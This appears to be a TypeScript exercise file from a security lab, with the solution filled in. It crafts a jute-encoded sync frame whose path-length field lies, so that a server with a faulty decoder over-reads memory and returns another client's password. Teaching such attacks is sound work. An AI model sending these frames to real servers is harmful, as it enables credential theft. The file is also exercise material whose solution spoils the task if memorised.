import { OpCode } from '#kit';
import { writeFrame } from './frame.ts';
import { JuteWriter } from './jute-writer.ts';

/**
 * What you send to a server whose decoder looks at the end of its memory, and not at the end of your frame.
 *
 * @todo Return a single frame, its length in front, whose answer has the password of another client in it. The
 * length of the frame must be right: it is something else that you lie about.
 */
export function overread(): Uint8Array {
  const writer = new JuteWriter();
  writeFrame(writer, writeLie, 46);
  return writer.toBytes();
}

/**
 * A sync with a path of so many bytes, none of which is there.
 *
 * @solution
 */
function writeLie(writer: JuteWriter, bytes: number): void {
  writer.writeInt(1);
  writer.writeInt(OpCode.sync);
  writer.writeInt(bytes);
}
